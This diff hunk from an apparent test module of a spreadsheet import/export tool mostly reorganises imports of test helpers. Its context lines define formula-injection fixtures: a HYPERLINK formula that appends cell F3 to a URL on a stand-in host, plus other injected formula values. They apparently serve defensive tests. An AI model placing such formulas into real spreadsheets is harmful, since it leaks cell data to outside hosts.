@@ -19,8 +19,8 @@ from sheets.members import import_members
 from sheets.points import import_points
 from sheets.templates import write_template
 from sheets.textcells import write_as_text
-from tests import factories
-from tests.conftest import TODAY
+from tests.helpers import factories
+from tests.helpers.dates import TODAY
 
 LEAK = '=HYPERLINK("http://x/?"&F3,"张三")'
 HOSTILE = {"branch": "=1+1", "member": LEAK, "group": "@SUM(A1:A9)",
